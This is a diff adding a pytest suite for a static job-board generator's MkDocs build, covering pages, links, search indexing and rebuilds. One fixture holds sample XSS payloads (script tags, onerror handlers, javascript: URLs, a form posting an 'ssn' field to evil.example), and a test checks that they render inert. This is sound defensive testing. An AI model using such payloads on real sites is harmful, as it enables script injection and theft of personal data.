@@ -1,0 +1,208 @@
+"""`boardgen build`: the real MkDocs build of the sample board, and what a student sees."""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+import yaml
+from conftest import RunCli, write_listing
+
+from boardgen.errors import BuildError
+from boardgen.generate import write_pages
+
+
+class _Collector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.links: list[str] = []
+        self.scripts: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = dict(attrs)
+        self.tags.append((tag, values))
+        if tag == "a" and values.get("href"):
+            self.links.append(str(values["href"]))
+        self._in_script = tag == "script"
+
+    def handle_data(self, data: str) -> None:
+        if self._in_script:
+            self.scripts.append(data)
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_script = False
+
+
+def _parse(path: Path) -> _Collector:
+    parser = _Collector()
+    parser.feed(path.read_text(encoding="utf-8"))
+    return parser
+
+
+@pytest.fixture(scope="module")
+def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    import subprocess
+    import sys
+
+    from conftest import TODAY, copy_board
+
+    board = copy_board(tmp_path_factory.mktemp("built") / "board")
+    subprocess.run(
+        [sys.executable, "-m", "boardgen", "-C", str(board), "--today", TODAY.isoformat(), "build"],
+        check=True,
+        capture_output=True,
+    )
+    return board
+
+
+def _open_ids(board: Path, run_cli: RunCli) -> list[str]:
+    return [row["id"] for row in json.loads(run_cli(board, "export").stdout)]
+
+
+def test_every_open_listing_has_a_page_and_a_card(built: Path, run_cli: RunCli) -> None:
+    ids = _open_ids(built, run_cli)
+    assert len(ids) >= 20
+    board_html = (built / "site/opportunities/index.html").read_text()
+    assert f"{len(ids)} open listings" in board_html
+    for listing_id in ids:
+        assert (built / f"site/opportunities/{listing_id}/index.html").is_file()
+        assert f'href="{listing_id}/"' in board_html
+    pages = {p.name for p in (built / "site/opportunities").iterdir() if p.is_dir()}
+    assert pages == set(ids)
+
+
+def test_closed_and_expired_listings_are_not_shown(built: Path) -> None:
+    board_html = (built / "site/opportunities/index.html").read_text()
+    for gone in ("lindenfield-health-data-coop", "saltgate-exhibit-labels"):
+        assert gone not in board_html
+        assert not (built / f"site/opportunities/{gone}").exists()
+
+
+def test_listing_page_shows_the_facts_and_an_example_badge(built: Path) -> None:
+    page = (built / "site/opportunities/riverbend-survey-analysis/index.html").read_text()
+    assert "Example</span>" in page
+    assert "$400 fixed fee" in page
+    assert "20 hours over 2 weeks" in page
+    assert "15 January 2027 (54 days left)" in page
+    assert 'href="https://riverbend-health.example/careers/survey-analysis"' in page
+    assert 'rel="noopener noreferrer nofollow"' in page
+
+
+def test_home_and_guidance_pages_are_built_and_linked(built: Path) -> None:
+    home = _parse(built / "site/index.html")
+    assert "opportunities/" in home.links
+    assert (built / "site/guide/staying-safe/index.html").is_file()
+    assert (built / "site/reference/listing-fields/index.html").is_file()
+
+
+def test_every_internal_link_resolves(built: Path) -> None:
+    site = built / "site"
+    # 404.html links absolutely, under the path of site_url (https://host/boardgen/).
+    prefix = "/" + str(yaml.safe_load((built / "site_config/board.yml").read_text())["site_url"])
+    prefix = "/" + prefix.split("://", 1)[1].split("/", 1)[1]
+    broken = []
+    for page in site.rglob("*.html"):
+        for href in _parse(page).links:
+            if re.match(r"^[a-z]+:", href) or href.startswith(("#", "//")):
+                continue
+            path = href.split("#")[0].split("?")[0]
+            if path.startswith("/"):
+                assert path.startswith(prefix), (page, href)
+                target = (site / path.removeprefix(prefix)).resolve()
+            else:
+                target = (page.parent / path).resolve()
+            if target.is_dir():
+                target = target / "index.html"
+            if not target.exists():
+                broken.append(f"{page.relative_to(site)} -> {href}")
+    assert broken == []
+
+
+def test_listing_pages_stay_out_of_the_search_index(built: Path) -> None:
+    index = json.loads((built / "site/search/search_index.json").read_text())
+    locations = {doc["location"] for doc in index["docs"]}
+    assert not any(
+        loc.startswith("opportunities/") and loc != "opportunities/" for loc in locations
+    )
+    assert any(loc.startswith("guide/") for loc in locations)
+
+
+def test_rebuild_without_changes_writes_no_pages(built: Path, run_cli: RunCli) -> None:
+    result = run_cli(built, "build")
+    assert result.returncode == 0, result.stderr
+    assert "0 written" in result.stderr and "0 removed" in result.stderr
+
+
+HOSTILE = """\
+id: hostile-listing
+title: '</title><script>alert("title")</script>'
+organization:
+  name: '"><img src=x onerror=alert(1)>'
+apply_url: https://hostile.example/apply
+opportunity_type: internship
+work_mode: remote
+compensation: {kind: unpaid}
+posted_at: 2026-11-20
+description: |
+  <script>alert("description")</script>
+  [click me](javascript:alert(1)) and <a href="data:text/html,x">data</a>
+  <form action="https://evil.example"><input name="ssn"></form>
+  <img src="javascript:alert(2)" onerror="alert(3)">
+  <p onclick="alert(4)" style="color:red">Styled</p>
+"""
+
+
+def test_hostile_listing_renders_inert(board: Path, run_cli: RunCli) -> None:
+    write_listing(board, "hostile-listing.yml", HOSTILE)
+    result = run_cli(board, "build")
+    assert result.returncode == 0, result.stderr
+    listing_page = board / "site/opportunities/hostile-listing/index.html"
+    board_page = board / "site/opportunities/index.html"
+    for page, start, end in (
+        (listing_page, '<article class="bg-listing"', "</article>"),
+        (board_page, '<div class="bg-board"', "</ul>"),
+    ):
+        html_text = page.read_text()
+        assert not any("alert" in script for script in _parse(page).scripts)
+        assert "javascript:" not in html_text and "data:text/html" not in html_text
+        assert "</title><script" not in html_text and "<title></title>" not in html_text
+        ours = _Collector()
+        ours.feed(html_text[html_text.index(start) : html_text.index(end, html_text.index(start))])
+        for tag, attrs in ours.tags:
+            assert tag not in {"form", "input", "img", "script", "iframe", "style"}, tag
+            assert not [a for a in attrs if a.startswith("on") or a == "style"], (tag, attrs)
+    shown = listing_page.read_text()
+    assert "&lt;/title&gt;&lt;script&gt;alert(&#34;title&#34;)" in shown or (
+        "&lt;/title&gt;&lt;script&gt;alert(&quot;title&quot;)" in shown
+    )
+
+
+def test_generated_folder_is_not_a_place_for_hand_written_pages(tmp_path: Path) -> None:
+    folder = tmp_path / "opportunities"
+    folder.mkdir()
+    (folder / "mine.md").write_text("# Mine")
+    with pytest.raises(BuildError, match="did not write"):
+        write_pages(folder, {"index.md": "x"})
+    assert (folder / "mine.md").exists()
+
+
+def test_stale_generated_pages_are_removed(tmp_path: Path) -> None:
+    folder = tmp_path / "opportunities"
+    first = write_pages(folder, {"index.md": "a", "old.md": "b"})
+    second = write_pages(folder, {"index.md": "a"})
+    assert (first.written, second.unchanged, second.removed) == (2, 1, 1)
+    assert not (folder / "old.md").exists()
+
+
+def test_invalid_listing_stops_the_build_before_writing(board: Path, run_cli: RunCli) -> None:
+    write_listing(board, "bad.yml", "id: bad\ntitle: [oops\n")
+    result = run_cli(board, "build")
+    assert result.returncode == 1
+    assert "content/listings/bad.yml:3:1: invalid YAML" in result.stderr
+    assert not (board / "site").exists()
+    assert not (board / "content/opportunities").exists()
